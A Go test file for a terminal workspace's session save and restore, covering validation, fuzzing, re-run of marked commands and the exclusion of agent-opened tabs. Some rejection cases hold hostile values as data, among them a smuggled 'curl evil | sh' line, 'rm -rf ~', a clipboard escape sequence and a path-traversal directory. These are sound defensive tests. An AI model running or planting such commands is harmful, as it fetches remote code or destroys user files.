package workspace

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/phantom-dev/phantom/internal/config"
	"github.com/phantom-dev/phantom/internal/testenv"
	"github.com/phantom-dev/phantom/terminald/screen"
)

// workspaceIn is a workspace on env's paths, shut down when the test ends.
func workspaceIn(t *testing.T, env *testenv.Env) *Workspace {
	t.Helper()
	cfg, err := config.Load(env.Layout.Config)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Shell = "/bin/bash"
	w, err := New(Options{Config: cfg, Layout: env.Layout, Env: env.Vars, PollInterval: 50 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(w.Shutdown)
	return w
}

// goodSession is a valid saved session: two windows, a group, three tabs.
func goodSession() savedState {
	return savedState{
		Version: stateVersion,
		NextID:  map[string]int{"t": 3, "w": 2, "g": 1},
		Windows: []savedWindow{{ID: "w1", Name: "main", Tabs: []string{"t1", "t2"}, Focused: "t2"}, {ID: "w2", Name: "ci", Tabs: []string{"t3"}}},
		Groups:  []savedGroup{{ID: "g1", Name: "api", Color: "blue", WindowID: "w1"}},
		Tabs: []savedTab{
			{ID: "t1", WindowID: "w1", KernelDir: "/tmp"},
			{ID: "t2", WindowID: "w1", GroupID: "g1", Name: "build", Keep: &KeptCommand{Line: "make watch", Dir: "/tmp"}},
			{ID: "t3", WindowID: "w2"},
		},
	}
}

func TestParseSession(t *testing.T) {
	tests := []struct {
		name   string
		change func(st *savedState)
		raw    string // used instead of the changed session when set
		want   string // "" for valid; else a part of the error
	}{
		{name: "valid", change: func(*savedState) {}},
		{name: "not JSON", raw: "{\"version\": 1,", want: "not valid JSON"},
		{name: "wrong type", raw: `{"version":"1"}`, want: "must be int"},
		{name: "not an object", raw: `[1,2]`, want: "must be"},
		{name: "other version", change: func(st *savedState) { st.Version = 9 }, want: "version 9"},
		{name: "no window", change: func(st *savedState) { st.Windows = nil }, want: "no window"},
		{name: "bad window id", change: func(st *savedState) { st.Windows[0].ID = "w01" }, want: `id "w01"`},
		{name: "window twice", change: func(st *savedState) { st.Windows[1].ID = "w1" }, want: "comes twice"},
		{name: "window lists a non-tab", change: func(st *savedState) { st.Windows[0].Tabs = []string{"../x"} }, want: "not a tab id"},
		{name: "bad focus", change: func(st *savedState) { st.Windows[0].Focused = "g1" }, want: "not a tab id"},
		{name: "group in no window", change: func(st *savedState) { st.Groups[0].WindowID = "w9" }, want: "does not have"},
		{name: "tab in no window", change: func(st *savedState) { st.Tabs[0].WindowID = "" }, want: "window \"\""},
		{name: "tab twice", change: func(st *savedState) { st.Tabs[2].ID = "t1" }, want: "comes twice"},
		{name: "group of another window", change: func(st *savedState) { st.Tabs[2].GroupID = "g1" }, want: "group \"g1\""},
		{name: "relative directory", change: func(st *savedState) { st.Tabs[0].KernelDir = "tmp" }, want: "absolute"},
		{name: "unclean directory", change: func(st *savedState) { st.Tabs[0].KernelDir = "/tmp/../etc" }, want: "clean"},
		{name: "long name", change: func(st *savedState) { st.Tabs[0].Name = strings.Repeat("n", maxSavedText+1) }, want: "bytes long"},
		{name: "kept line break", change: func(st *savedState) { st.Tabs[1].Keep.Line = "make\ncurl evil | sh" }, want: "line break"},
		{name: "kept escape", change: func(st *savedState) { st.Tabs[1].Keep.Line = "echo \x1b]52;c;eA==\a" }, want: "control character"},
		{name: "kept empty", change: func(st *savedState) { st.Tabs[1].Keep.Line = "  " }, want: "empty"},
		{name: "kept too long", change: func(st *savedState) { st.Tabs[1].Keep.Line = strings.Repeat("x", maxKeptCommand+1) }, want: "bytes long"},
		{name: "kept without directory", change: func(st *savedState) { st.Tabs[1].Keep.Dir = "" }, want: "no directory"},
		{name: "negative next id", change: func(st *savedState) { st.NextID["t"] = -1 }, want: "next_id"},
		{name: "too many tabs", change: func(st *savedState) {
			for i := range MaxTabs {
				st.Tabs = append(st.Tabs, savedTab{ID: "t" + itoa(i+10), WindowID: "w1"})
			}
		}, want: "at most"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			b := []byte(tc.raw)
			if tc.raw == "" {
				st := goodSession()
				tc.change(&st)
				b, _ = json.Marshal(st)
			}
			_, err := parseSession(b)
			switch {
			case tc.want == "" && err != nil:
				t.Fatalf("parseSession: %v, want it valid", err)
			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
				t.Fatalf("parseSession: %v, want an error with %q", err, tc.want)
			}
		})
	}
}

func itoa(n int) string { b, _ := json.Marshal(n); return string(b) }

// FuzzParseSession: no input panics the loader, and whatever it accepts
// passes its checks again after a round trip and holds only ids and kept
// commands a restore can use.
func FuzzParseSession(f *testing.F) {
	good, _ := json.Marshal(goodSession())
	f.Add(good)
	f.Add([]byte(`{"version":1,"windows":[{"id":"w1","tabs":["t1"]}],"tabs":[{"id":"t1","window_id":"w1","keep":{"line":"x","dir":"/"}}]}`))
	f.Add([]byte(`{"version":1,"windows":[{"id":"w1","layout":{"root":{"a":{"tab":"t1"},"b":{"tab":"t9"}}}}]}`))
	f.Add([]byte(`null`))
	f.Add([]byte(`{"version":1,"windows":[],"next_id":{"t":1e99}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		st, err := parseSession(b)
		if err != nil {
			return
		}
		for _, tab := range st.Tabs {
			if !validID(tab.ID, 't') {
				t.Fatalf("accepted tab id %q", tab.ID)
			}
			if tab.Keep != nil && checkKept(*tab.Keep) != nil {
				t.Fatalf("accepted kept command %+v", *tab.Keep)
			}
		}
		again, _ := json.Marshal(st)
		if _, err := parseSession(again); err != nil {
			t.Fatalf("accepted %q, but not its round trip %q: %v", b, again, err)
		}
	})
}

// TestSessionSavedAndRestored: what one workspace saves as it shuts down,
// the next restores — ids, names, windows in order, groups, directories,
// layout, focus — and only the marked command runs again.
func TestSessionSavedAndRestored(t *testing.T) {
	env := testenv.New(t)
	proj, other := filepath.Join(env.Home, "proj"), filepath.Join(env.Home, "other")
	for _, d := range []string{proj, other} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	w1 := workspaceIn(t, env)
	if rep := w1.RestoreSaved(); rep.Tabs != 0 || len(rep.Warnings) != 0 {
		t.Fatalf("restore with no saved session: %+v", rep)
	}
	first, err := w1.Create(CreateSpec{Directory: env.Home})
	if err != nil {
		t.Fatal(err)
	}
	g, err := w1.CreateGroup("api", "", "")
	if err != nil {
		t.Fatal(err)
	}
	build, err := w1.Create(CreateSpec{Directory: proj, Name: "build", GroupID: g.ID})
	if err != nil {
		t.Fatal(err)
	}
	ci := w1.CreateWindow("ci")
	logs, err := w1.Create(CreateSpec{Directory: other, Name: "logs", WindowID: ci.ID})
	if err != nil {
		t.Fatal(err)
	}
	split := Entry{Root: &LayoutNode{Ratio: 0.5, A: &LayoutNode{Tab: first.ID}, B: &LayoutNode{Tab: build.ID}}, Focused: build.ID}
	w1.SetEntries("w1", []Entry{split})
	if _, err := w1.Focus(build.ID); err != nil {
		t.Fatal(err)
	}
	waitIdle(t, w1, build.ID)
	if _, _, err := w1.KeepCommand(build.ID, "echo kept-$((40+2)) > marker"); err != nil {
		t.Fatal(err)
	}
	// The other tab ran something, unmarked: it must not run again.
	waitIdle(t, w1, logs.ID)
	if _, err := w1.RunCommand(logs.ID, "echo not-again >> unmarked"); err != nil {
		t.Fatal(err)
	}
	w1.Shutdown()

	path := SessionPath(env.Layout)
	fi, err := os.Stat(path)
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("saved session %s: %v, mode %v; want it written 0600", path, err, fi.Mode())
	}
	if ents, _ := filepath.Glob(filepath.Join(env.Layout.State, "."+SessionFileName+"*")); len(ents) > 0 {
		t.Errorf("temporary files left: %v", ents)
	}

	w2 := workspaceIn(t, env)
	rep := w2.RestoreSaved()
	if rep.Tabs != 3 || rep.Windows != 2 || len(rep.Warnings) != 0 || len(rep.Reran) != 1 || !strings.Contains(rep.Reran[0], "kept-") {
		t.Fatalf("restore: %+v; want 3 tabs, 2 windows, one command run again", rep)
	}
	got := map[string]Terminal{}
	for _, tm := range w2.List() {
		got[tm.ID] = tm
	}
	for _, want := range []Terminal{
		{ID: first.ID, WindowID: "w1"},
		{ID: build.ID, Name: "build", WindowID: "w1", GroupID: g.ID, KeepsCommand: true, Directory: proj},
		{ID: logs.ID, Name: "logs", WindowID: ci.ID, Directory: other},
	} {
		tm, ok := got[want.ID]
		if !ok || tm.Name != want.Name || tm.WindowID != want.WindowID || tm.GroupID != want.GroupID || tm.KeepsCommand != want.KeepsCommand ||
			(want.Directory != "" && tm.KernelDirectory != want.Directory) {
			t.Errorf("restored %s = %+v, want %+v", want.ID, tm, want)
		}
	}
	wins := w2.Windows()
	if len(wins) != 2 || wins[0].Name != "main" || wins[1].Name != "ci" || !slices.Equal(wins[0].TabIDs, []string{first.ID, build.ID}) || wins[0].FocusedTab != build.ID {
		t.Errorf("restored windows = %+v", wins)
	}
	if es, _ := w2.Entries("w1"); len(es) != 1 || !es[0].Root.Equal(split.Root) {
		t.Errorf("restored entries of w1 = %+v, want the one split %+v", es, split)
	}
	if gs := w2.Groups(); len(gs) != 1 || gs[0].Name != "api" {
		t.Errorf("restored groups = %+v", gs)
	}
	marker := filepath.Join(proj, "marker")
	waitFile(t, marker, "kept-42")
	if b, _ := os.ReadFile(filepath.Join(other, "unmarked")); strings.Count(string(b), "not-again") != 1 {
		t.Errorf("the unmarked command ran %d times, want once (never again at restore)", strings.Count(string(b), "not-again"))
	}
	// Only once, and a new tab gets a new id.
	if rep := w2.RestoreSaved(); rep.Tabs != 0 {
		t.Errorf("second restore: %+v, want nothing", rep)
	}
	if tm, err := w2.Create(CreateSpec{Directory: env.Home}); err != nil || idNum(tm.ID) <= idNum(logs.ID) {
		t.Errorf("a tab opened after the restore: %+v, %v; want an id after %s", tm, err, logs.ID)
	}
}

func waitIdle(t *testing.T, w *Workspace, id string) {
	t.Helper()
	if _, ok, err := w.WaitFor(context.Background(), id, screen.Pos{}, true, nil, 20*time.Second); err != nil || !ok {
		t.Fatalf("tab %s never idle: %v", id, err)
	}
}

func waitFile(t *testing.T, path, want string) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		b, _ := os.ReadFile(path)
		if strings.Contains(string(b), want) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s holds %q, want %q", path, b, want)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestRestoreLeavesOut: tabs opened for an agent never come back, a
// sandboxed tab only sandboxed (this terminald has no launcher, so not at
// all), and a missing directory sends the tab home without its command.
func TestRestoreLeavesOut(t *testing.T) {
	env := testenv.New(t)
	st := goodSession()
	gone := filepath.Join(env.Home, "gone")
	st.Tabs = []savedTab{
		{ID: "t1", WindowID: "w1", KernelDir: env.Home},
		{ID: "t2", WindowID: "w1", OpenedBy: "t1", Keep: &KeptCommand{Line: "touch agent", Dir: env.Home}},
		{ID: "t3", WindowID: "w2", Sandboxed: true, KernelDir: env.Home},
		{ID: "t4", WindowID: "w2", KernelDir: gone, Keep: &KeptCommand{Line: "touch kept", Dir: gone}},
	}
	b, _ := json.Marshal(st)
	if err := writeSession(SessionPath(env.Layout), b); err != nil {
		t.Fatal(err)
	}
	w := workspaceIn(t, env)
	rep := w.RestoreSaved()
	var ids []string
	for _, tm := range w.List() {
		ids = append(ids, tm.ID)
		if tm.ID == "t4" && tm.KernelDirectory != env.Home {
			t.Errorf("t4 restored in %q, want home %s", tm.KernelDirectory, env.Home)
		}
	}
	slices.Sort(ids)
	if !slices.Equal(ids, []string{"t1", "t4"}) || len(rep.Reran) != 0 {
		t.Fatalf("restored %v (report %+v), want t1 and t4 and nothing run again", ids, rep)
	}
	for _, want := range []string{"t2 is not restored: it was opened for the agent", "t3 is not restored", "t4: its command is not run again"} {
		if !slices.ContainsFunc(rep.Warnings, func(w string) bool { return strings.Contains(w, want) }) {
			t.Errorf("warnings %q, want one with %q", rep.Warnings, want)
		}
	}
}

// TestRestoreBadFile: a corrupt file is set aside, named in one warning,
// and the workspace starts fresh and saves its own session.
func TestRestoreBadFile(t *testing.T) {
	env := testenv.New(t)
	path := SessionPath(env.Layout)
	if err := writeSession(path, []byte(`{"version":1,"windows":[{"id":"w1"}],"tabs":[{"id":"t1","window_id":"w7"}]}`)); err != nil {
		t.Fatal(err)
	}
	w := workspaceIn(t, env)
	rep := w.RestoreSaved()
	if rep.Tabs != 0 || len(rep.Warnings) != 1 || !strings.Contains(rep.Warnings[0], path) || !strings.Contains(rep.Warnings[0], `window "w7"`) ||
		!strings.Contains(rep.Warnings[0], "kept it as "+path+".bad-") || strings.Contains(rep.Warnings[0], "\n") {
		t.Fatalf("restore of a bad file: %+v; want one line naming the file, what is wrong and where it was kept", rep)
	}
	if bad, _ := filepath.Glob(path + ".bad-*"); len(bad) != 1 {
		t.Errorf("files set aside: %v, want one", bad)
	}
	if _, err := w.Create(CreateSpec{Directory: env.Home}); err != nil {
		t.Fatal(err)
	}
	w.Shutdown()
	if _, ok, err := loadSession(path); err != nil || !ok {
		t.Errorf("the fresh session saved after a bad file: %v (saved: %v)", err, ok)
	}
}

// TestRestoreNotOverTabs: a workspace that already has tabs (taken back
// from a holder, or opened first) restores nothing, and a disabled
// restore neither reads nor writes the file.
func TestRestoreNotOverTabs(t *testing.T) {
	tests := []struct {
		name     string
		restore  bool
		openTab  bool
		wantTabs int
	}{
		{name: "fresh", restore: true, wantTabs: 1},
		{name: "a tab opened first", restore: true, openTab: true, wantTabs: 0},
		{name: "restore off", restore: false, wantTabs: 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			env := testenv.New(t)
			st := goodSession()
			st.Tabs = st.Tabs[:1]
			b, _ := json.Marshal(st)
			path := SessionPath(env.Layout)
			if err := writeSession(path, b); err != nil {
				t.Fatal(err)
			}
			w := workspaceIn(t, env)
			cfg := w.Config()
			cfg.Restore = &tc.restore
			w.SetConfig(cfg)
			if tc.openTab {
				if _, err := w.Create(CreateSpec{Directory: env.Home}); err != nil {
					t.Fatal(err)
				}
			}
			if rep := w.RestoreSaved(); rep.Tabs != tc.wantTabs {
				t.Errorf("restored %d tabs (%+v), want %d", rep.Tabs, rep, tc.wantTabs)
			}
			w.Shutdown()
			after, _ := os.ReadFile(path)
			if !tc.restore && string(after) != string(b) {
				t.Errorf("with restore off the file changed:\n%s", after)
			}
		})
	}
}

// TestKeepCommand: what may be marked, and that the mark is what was
// recorded then.
func TestKeepCommand(t *testing.T) {
	w := newWorkspace(t)
	defer w.Shutdown()
	tm, err := w.Create(CreateSpec{Directory: "/tmp"})
	if err != nil {
		t.Fatal(err)
	}
	opened, err := w.Create(CreateSpec{Directory: "/tmp", OpenedBy: tm.ID, ByAgent: true})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, tab, line string
		want            string // "" for success; else part of the error
		kept            bool
	}{
		{name: "mark", tab: tm.ID, line: "make watch", kept: true},
		{name: "two lines", tab: tm.ID, line: "make\nrm -rf ~", want: "line break"},
		{name: "control character", tab: tm.ID, line: "a\x07b", want: "control character"},
		{name: "too long", tab: tm.ID, line: strings.Repeat("y", maxKeptCommand+1), want: "bytes long"},
		{name: "opened for an agent", tab: opened.ID, line: "make", want: "opened for the agent"},
		{name: "no such tab", tab: "t99", line: "make", want: "t99"},
		{name: "unmark", tab: tm.ID, line: "", kept: false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			now, _, err := w.KeepCommand(tc.tab, tc.line)
			switch {
			case tc.want == "" && err != nil:
				t.Fatalf("KeepCommand(%s, %q): %v", tc.tab, tc.line, err)
			case tc.want != "":
				if err == nil || !strings.Contains(err.Error(), tc.want) {
					t.Fatalf("KeepCommand(%s, %q): %v, want an error with %q", tc.tab, tc.line, err, tc.want)
				}
				return
			}
			if (now != nil) != tc.kept || tc.kept && (now.Line != tc.line || now.Dir != "/tmp") {
				t.Errorf("KeepCommand(%s, %q) = %+v", tc.tab, tc.line, now)
			}
			if got, _ := w.Get(tc.tab); got.KeepsCommand != tc.kept {
				t.Errorf("KeepsCommand = %v, want %v", got.KeepsCommand, tc.kept)
			}
		})
	}
}

// TestSessionSavedAsItChanges: a change is on disk soon, without a
// shutdown, and a file changed behind the workspace's back (an edit, a
// removal) is written again.
func TestSessionSavedAsItChanges(t *testing.T) {
	env := testenv.New(t)
	w := workspaceIn(t, env)
	w.RestoreSaved()
	tm, err := w.Create(CreateSpec{Directory: env.Home})
	if err != nil {
		t.Fatal(err)
	}
	name := "renamed"
	if _, err := w.Update(tm.ID, Update{Name: &name}); err != nil {
		t.Fatal(err)
	}
	path := SessionPath(env.Layout)
	saved := func(what string) {
		t.Helper()
		testenv.Eventually(t, what, func() (bool, string) {
			st, ok, err := loadSession(path)
			return err == nil && ok && len(st.Tabs) == 1 && st.Tabs[0].Name == name, fmt.Sprint(st, ok, err)
		})
	}
	saved("the rename saved")
	for _, tamper := range []func() error{
		func() error { return os.WriteFile(path, []byte(`{"version":1,"windows":[{"id":"w1"}]}`), 0o600) },
		func() error { return os.Remove(path) },
	} {
		if err := tamper(); err != nil {
			t.Fatal(err)
		}
		saved("the session written again over a changed file")
	}
}
